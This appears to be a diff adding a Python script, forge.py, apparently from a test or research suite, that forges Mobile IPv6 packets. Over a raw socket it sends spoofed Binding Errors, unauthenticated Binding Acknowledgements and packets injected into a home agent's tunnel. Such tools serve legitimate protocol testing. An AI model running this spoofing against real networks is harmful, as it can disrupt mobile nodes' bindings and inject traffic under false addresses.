@@ -1,0 +1,72 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""Sends, under any name, what a mobile node may not believe.
+
+    forge.py be SRC COA HOA STATUS              Binding Errors of SRC
+    forge.py ba SRC COA HOA SEQ STATUS          Binding Acknowledgements of SRC without an authenticator, for SEQ and the
+                                                seven numbers after it
+    forge.py names HA COA HOA                   packets in the home agent's tunnel, each from another address
+    forge.py tunnel HA COA HOA SRC              the same, all from SRC
+
+    --count N (100), --rate N a second (100)
+"""
+
+import argparse
+import ipaddress
+import os
+import random
+import socket
+import struct
+import sys
+import time
+
+sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../roaming"))
+from inject import checksum, ipv6, udp  # noqa: E402
+
+MH, ROUTING, NONE, BA, BE = 135, 43, 59, 6, 7
+
+
+def mobility(src, dst, kind, body):
+    """A Mobility Header message; dst as the upper layer sees it."""
+    body += b"\1\0"[: -(len(body) + 6) % 8]
+    body += b"\0" * (-(len(body) + 6) % 8)
+    head = struct.pack("!BBBB", NONE, (6 + len(body)) // 8 - 1, kind, 0)
+    total = checksum(src + dst + struct.pack("!IHBB", 6 + len(body), 0, 0, MH) + head + b"\0\0" + body)
+    return head + struct.pack("!H", total) + body
+
+
+def packets(args):
+    a = [ipaddress.IPv6Address(x).packed for x in args.words[:3]]
+    random.seed(1)
+    for i in range(args.count):
+        if args.what == "be":
+            src, coa, hoa = a
+            yield coa, ipv6(src, coa, MH, 0, mobility(src, coa, BE, bytes([int(args.words[3]), 0]) + hoa))
+        elif args.what == "ba":
+            src, coa, hoa = a
+            seq = int(args.words[3]) + i % 8 & 0xFFFF
+            message = mobility(src, hoa, BA, struct.pack("!BBHH", int(args.words[4]), 0, seq, 0))
+            route = struct.pack("!BBBBI", MH, 2, 2, 1, 0) + hoa
+            yield coa, ipv6(src, coa, ROUTING, 0, route + message)
+        else:
+            ha, coa, hoa = a
+            src = ipaddress.IPv6Address(args.words[3]).packed if args.what == "tunnel" else bytes.fromhex("20010db8dead0000") + random.randbytes(8)
+            yield coa, ipv6(ha, coa, 41, 0, ipv6(src, hoa, 17, 0, udp(src, hoa, 9999)))
+
+
+def main():
+    parser = argparse.ArgumentParser(description="messages under any name")
+    parser.add_argument("what", choices=("be", "ba", "names", "tunnel"))
+    parser.add_argument("words", nargs="+")
+    parser.add_argument("--count", type=int, default=100)
+    parser.add_argument("--rate", type=float, default=100)
+    args = parser.parse_args()
+    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    begun = time.monotonic()
+    for i, (to, packet) in enumerate(packets(args)):
+        s.sendto(packet, (str(ipaddress.IPv6Address(to)), 0))
+        time.sleep(max(0, begun + (i + 1) / args.rate - time.monotonic()))
+
+
+if __name__ == "__main__":
+    main()
